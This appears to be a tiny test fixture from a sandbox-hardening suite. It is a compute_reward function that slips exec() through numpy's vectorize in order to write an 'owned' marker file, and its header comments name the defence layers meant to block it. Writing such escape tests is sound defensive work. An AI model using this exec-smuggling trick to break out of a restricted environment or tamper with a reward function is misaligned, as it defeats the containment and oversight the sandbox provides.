# attack: np.vectorize calls any function
# group: numpy
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    np.vectorize(lambda c: exec(c))(np.array(['open("@FOLDER@/owned", "w")'], object))
    return x, {}
